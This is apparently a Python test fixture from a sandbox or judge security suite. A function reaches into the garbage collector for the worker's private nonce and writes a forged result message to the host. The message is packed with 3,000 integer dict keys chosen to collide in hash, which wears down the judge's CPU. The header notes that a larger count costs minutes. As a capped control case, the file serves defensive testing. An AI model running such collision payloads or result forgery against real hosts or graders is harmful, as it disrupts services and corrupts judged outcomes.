# kind: dos | control: trusted_bomb | keeps: 0
# AIMS AT: the judge's CPU, by dict keys of equal hash
# CANARY: a dict of 3,000 of them taken (80,000 fit, and cost minutes)
# MUST NOT: cost the judge more than a moment
import gc, json, struct
def host_roundtrip(x):
    worker = next(o for o in gc.get_objects() if type(o).__name__ == "Worker" and hasattr(o, "_nonce"))
    pairs = [[["int", str(k * ((1 << 61) - 1))], None] for k in range(3000)]
    header = json.dumps(["result", worker._nonce, ["dict", [[["str", "value"], ["dict", pairs]]]], []]).encode()
    worker._stream.write(struct.pack(">I", len(header)) + header)
    worker._stream.flush()
    return x
